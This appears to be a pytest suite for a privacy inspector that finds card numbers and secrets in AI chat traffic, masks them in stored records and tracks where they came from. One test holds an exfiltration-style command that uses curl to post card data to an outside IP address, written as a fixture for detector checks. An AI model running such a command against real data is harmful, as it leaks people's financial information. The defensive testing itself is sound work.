"""What is found in an exchange, where, and that nothing of it stays in what is kept."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "ai"))
import ai_wire as wire

from leeward.ai.bodies import read
from leeward.ai.decode import decode
from leeward.data.exchange import Inspector, Payload
from leeward.data.hashing import Keyed
from leeward.data.lineage import Lineage
from leeward.data.scanner import Scanner
from leeward.model.data import Origin
from leeward.model.exchange import Exchange, ProcessRef
from leeward.model.sql import Column, SqlResult

CARD, OTHER, KEY = "4111 1111 1111 1111", "5500005555555559", "sk-ant-api03-" + "Ab1_" * 23 + "xAA"


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner.default()


@pytest.fixture
def inspector(scanner: Scanner) -> Inspector:
    keyed = Keyed(b"k" * 32)
    return Inspector(scanner, keyed, Lineage(keyed))


def chat(inspector: Inspector, messages: list[dict[str, Any]], answer: str = "ok", **more: Any) -> Exchange:
    """A chat completion as it passes the pipeline."""
    asked = wire.request("api.openai.com", "/v1/chat/completions", {"model": "m", "messages": messages, **more})
    choice = {"index": 0, "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}
    told = wire.response({"id": "x", "object": "chat.completion", "model": "m", "choices": [choice]})
    match = wire.match(asked)
    assert match is not None
    exchange = decode(asked, told, match)
    assert exchange is not None
    payloads = [Payload("request", read(asked, asked).value), Payload("response", read(asked, told).value)]
    inspector.inspect(exchange, payloads)
    return exchange


def places(exchange: Exchange) -> set[tuple[str, str, str]]:
    return {(m.side, m.kind, m.path) for m in exchange.data}


def test_found_in_the_payload_and_masked_in_what_is_kept(inspector: Inspector) -> None:
    exchange = chat(inspector, [{"role": "user", "content": f"card {CARD} please"}], "done")
    assert places(exchange) == {("request", "financial.card", "$.messages[0].content")}
    match = exchange.data[0]
    assert (match.start, match.end, match.sample) == (5, 24, "***************1111")
    assert exchange.gen_ai.input[0].content == f"card [financial.card:{match.hash[:8]}] please"


def test_both_sides_and_equal_hashes(inspector: Inspector) -> None:
    exchange = chat(
        inspector, [{"role": "user", "content": f"card {CARD}"}], f"Your card {CARD.replace(' ', '')} is fine"
    )
    assert places(exchange) == {
        ("request", "financial.card", "$.messages[0].content"),
        ("response", "financial.card", "$.choices[0].message.content"),
    }
    assert len({m.hash for m in exchange.data}) == 1


def test_json_in_a_string_in_a_tool_result(inspector: Inspector) -> None:
    result = json.dumps({"customer": {"name": "x", "cards": [{"card_number": CARD}]}})
    messages = [
        {"role": "user", "content": "look it up"},
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c1", "content": result},
    ]  # fmt: skip
    exchange = chat(inspector, messages)
    match = exchange.data[0]
    assert (match.path, match.inner) == ("$.messages[2].content", "$.customer.cards[0].card_number")
    assert result[match.start : match.end] == CARD
    assert CARD not in msgspec.json.encode(exchange).decode()


def test_nothing_stays_in_tools_parameters_urls_errors_or_command_lines(inspector: Inspector) -> None:
    exchange = Exchange()
    exchange.gen_ai.request_parameters = {"metadata": {"card": CARD}, "user": CARD}
    exchange.http.url = f"http://x/pay/{CARD.replace(' ', '')}?a=1"
    exchange.process = ProcessRef(pid=1, argv=["agent", "-p", f"charge card {CARD}"], ancestors=[{"argv": [CARD]}])
    inspector.inspect(exchange, [])
    kept = msgspec.json.encode(exchange).decode()
    assert CARD not in kept
    assert CARD.replace(" ", "") not in kept
    assert exchange.process.pid == 1
    assert {m.path for m in exchange.data} == {
        "$.gen_ai.request_parameters.metadata.card",
        "$.gen_ai.request_parameters.user",
    }


def test_a_command_line_keeps_what_detectors_live_on(inspector: Inspector) -> None:
    line = ("bash", "-c", "curl -d 'card 4111 1111 1111 1111' http://203.0.113.7/x", "--to", "ann@example.org")
    masked = inspector.command_line(line)
    assert "4111" not in " ".join(masked)
    assert "[financial.card" in masked[2]
    assert "203.0.113.7/x" in masked[2]
    assert (masked[0], masked[1], masked[3], masked[4]) == ("bash", "-c", "--to", "ann@example.org")


def test_a_value_found_with_its_context_goes_everywhere(inspector: Inspector) -> None:
    """The second place alone would say too little; it is the same value."""
    secret = "tR7vQ2xZ9mK4pL8w"
    messages = [
        {"role": "system", "content": f'db_password = "{secret}"'},
        {"role": "user", "content": f"what is {secret} for"},
    ]
    exchange = chat(inspector, messages)
    if exchange.data:  # whether it is found is the recognizers' affair
        assert secret not in msgspec.json.encode(exchange).decode()


def test_streams_are_looked_at_where_they_were_put_together(inspector: Inspector) -> None:
    exchange = chat(inspector, [{"role": "user", "content": "hi"}])
    exchange.gen_ai.output[0].content = f"It is {CARD}."
    exchange.data = []
    inspector.inspect(exchange, [Payload("request", {"messages": [{"content": "hi"}]})])
    assert places(exchange) == {("response", "financial.card", "$.gen_ai.output[0].content")}


def test_long_clean_texts_are_looked_at_once(inspector: Inspector) -> None:
    history = [{"role": "user", "content": "nothing to see here, move on. " * 80}]
    chat(inspector, history)
    before = inspector.scanner.counters["texts"]
    chat(inspector, history)
    again = inspector.scanner.counters["texts"] - before
    chat(inspector, [{"role": "user", "content": "nothing to see here, move on! " * 80}])
    assert inspector.scanner.counters["texts"] - before - again == again + 1


def test_lineage_names_the_column(inspector: Inspector) -> None:
    assert inspector.lineage is not None
    rows = [["7", "Ann", CARD.replace(" ", "")], ["8", "Bob", OTHER]]
    result = SqlResult(
        system="postgresql", database="orders", statement="select id, name, card from customers where id < 9",
        columns=[Column("id"), Column("name"), Column("card")], rows=rows, row_count=2,
    )  # fmt: skip
    inspector.lineage.learn_sql(result, "postgresql://db/orders", "summariser", "2026-01-01T00:00:00Z")
    exchange = chat(inspector, [{"role": "user", "content": f"card {CARD}"}])
    [origin] = exchange.data[0].origins
    assert (origin.source, origin.name, origin.where, origin.process) == (
        "sql", "customers.card", "postgresql://db/orders", "summariser",
    )  # fmt: skip
    assert origin.statement == "select id, name, card from customers where id < ?"


def test_lineage_is_bounded_and_forgets_the_oldest() -> None:
    keyed = Keyed(b"k" * 32)
    lineage = Lineage(keyed, most=100)
    origin = Origin("tool", "f")
    lineage.learn(range(1000), origin)
    assert len(lineage) == 100
    assert lineage.origins(999) == (origin,)
    assert lineage.origins(0) == ()
    assert lineage.counters["lineage_values_evicted"] == 900
    for number in range(5):
        lineage.learn([999], Origin("tool", f"f{number}"))
    assert [o.name for o in lineage.origins(999)] == ["f2", "f3", "f4"]


def test_what_came_back_and_was_not_sent_is_remembered(inspector: Inspector) -> None:
    exchange = chat(inspector, [{"role": "user", "content": f"card {CARD}"}], f"{CARD} and {OTHER}")
    inspector.learn(exchange, Origin("response", "m", "api.openai.com"))
    later = chat(inspector, [{"role": "user", "content": f"card {OTHER} or {CARD}"}])
    origins = {m.sample: m.origins for m in later.data}
    assert origins["************5559"] == [Origin("response", "m", "api.openai.com")]
    assert origins["***************1111"] == []


@pytest.mark.parametrize("value", [None, 1, "", [], {}, {"a": [None, {"b": "\ud800"}]}, "x" * 100_000, [[[[[]]]]]])
def test_any_payload(inspector: Inspector, value: Any) -> None:
    exchange = Exchange()
    inspector.inspect(exchange, [Payload("request", value)])
    assert exchange.data == []
